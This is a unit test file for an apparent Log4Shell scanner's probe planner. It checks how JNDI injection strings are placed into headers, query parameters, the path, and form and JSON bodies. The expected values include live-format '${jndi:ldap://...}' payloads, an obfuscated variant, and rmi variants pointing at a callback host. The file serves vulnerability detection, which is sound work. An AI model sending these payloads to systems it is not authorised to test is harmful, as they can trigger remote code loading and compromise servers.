#include "probe/probe_plan.h"

#include <set>

#include <gtest/gtest.h>

#include "net/token.h"

namespace l4s::net {
namespace {

ProbePlanOptions options() {
  ProbePlanOptions o;
  o.headers = {"User-Agent", "Referer", "X-Api-Version"};
  return o;
}

TEST(ProbePlanTest, OnePointPerRequestWithUniqueTokens) {
  std::mt19937_64 rng(1);
  auto plan = plan_probes("http://127.0.0.1:8080/app?id=7&lang=en#frag", options(), rng);
  ASSERT_TRUE(plan.ok()) << plan.error();
  // 3 headers + 2 existing params + q + path.
  ASSERT_EQ(plan->size(), 7u);
  std::set<std::string> tokens, points;
  for (const ProbeRequest& r : *plan) {
    ASSERT_EQ(r.injections.size(), 1u);
    EXPECT_TRUE(looks_like_token(r.injections[0].token));
    tokens.insert(r.injections[0].token);
    points.insert(r.injections[0].point);
    EXPECT_EQ(r.method, "GET");
    EXPECT_EQ(r.url.find('#'), std::string::npos);
    EXPECT_EQ(r.url.find('{'), std::string::npos) << "request targets are percent-encoded: " << r.url;
  }
  EXPECT_EQ(tokens.size(), 7u);
  EXPECT_EQ(points, (std::set<std::string>{"header:User-Agent", "header:Referer", "header:X-Api-Version", "query:id",
                                           "query:lang", "query:q", "path"}));
  const ProbeRequest& ua = (*plan)[0];
  ASSERT_EQ(ua.headers.size(), 1u);
  EXPECT_EQ(ua.headers[0].second, "${jndi:ldap://127.0.0.1:1389/" + ua.injections[0].token + "}");
  EXPECT_EQ(ua.url, "http://127.0.0.1:8080/app?id=7&lang=en");
  EXPECT_EQ((*plan)[1].headers[0].second.rfind("https://${jndi:", 0), 0u);  // Referer shaped as a URL
  const ProbeRequest& id = (*plan)[3];
  EXPECT_EQ(id.url.rfind("http://127.0.0.1:8080/app?id=%24%7Bjndi%3Aldap%3A%2F%2F127.0.0.1%3A1389%2F", 0), 0u) << id.url;
  EXPECT_NE(id.url.find("&lang=en"), std::string::npos);
  const ProbeRequest& path = (*plan)[6];
  EXPECT_EQ(path.url.rfind("http://127.0.0.1:8080/app/%24%7Bjndi%3Aldap%3A%24%7B%3A%3A-%2F%7D%2F", 0), 0u) << path.url;
}

TEST(ProbePlanTest, BundleKeepsOneTokenPerPoint) {
  std::mt19937_64 rng(2);
  ProbePlanOptions o = options();
  o.bundle = true;
  o.form = o.json = true;
  o.body_fields = {"username", "email"};
  o.variants = {"ldap", "rmi"};
  auto plan = plan_probes("https://example.test", o, rng);
  ASSERT_TRUE(plan.ok()) << plan.error();
  ASSERT_EQ(plan->size(), 6u);  // (GET, form, JSON) x 2 variants
  const ProbeRequest& get = (*plan)[0];
  EXPECT_EQ(get.injections.size(), 5u);  // 3 headers, q, path
  EXPECT_EQ(get.headers.size(), 3u);
  const ProbeRequest& form = (*plan)[1];
  EXPECT_EQ(form.method, "POST");
  EXPECT_EQ(form.content_type, "application/x-www-form-urlencoded");
  EXPECT_EQ(form.body.rfind("username=%24%7Bjndi", 0), 0u) << form.body;
  const ProbeRequest& json = (*plan)[2];
  EXPECT_EQ(json.content_type, "application/json");
  EXPECT_EQ(json.body.rfind("{\"username\":\"${jndi:ldap://", 0), 0u) << json.body;
  EXPECT_EQ((*plan)[3].injections[0].variant, "rmi");
}

TEST(ProbePlanTest, RejectsWhatItCannotProbe) {
  std::mt19937_64 rng(3);
  EXPECT_FALSE(plan_probes("ftp://x/", options(), rng).ok());
  EXPECT_FALSE(plan_probes("127.0.0.1:8080", options(), rng).ok());
  ProbePlanOptions o = options();
  o.variants = {"dns-label"};  // no zone
  EXPECT_FALSE(plan_probes("http://x/", o, rng).ok());
  o.variants = {"bogus"};
  EXPECT_FALSE(plan_probes("http://x/", o, rng).ok());
}

TEST(ProbePlanTest, HeaderLists) {
  auto minimal = probe_headers(HeaderList::kMinimal);
  auto full = probe_headers(HeaderList::kFull);
  EXPECT_GE(minimal.size(), 15u);
  EXPECT_GT(full.size(), minimal.size());
  EXPECT_EQ(minimal[0], "User-Agent");
  for (const auto& h : full) EXPECT_NE(h, "Host");
  EXPECT_EQ(*parse_header_list("# c\n X-A \n\nX-B\r\n"), (std::vector<std::string>{"X-A", "X-B"}));
  EXPECT_FALSE(parse_header_list("X-A: 1").ok());
}

}  // namespace
}  // namespace l4s::net
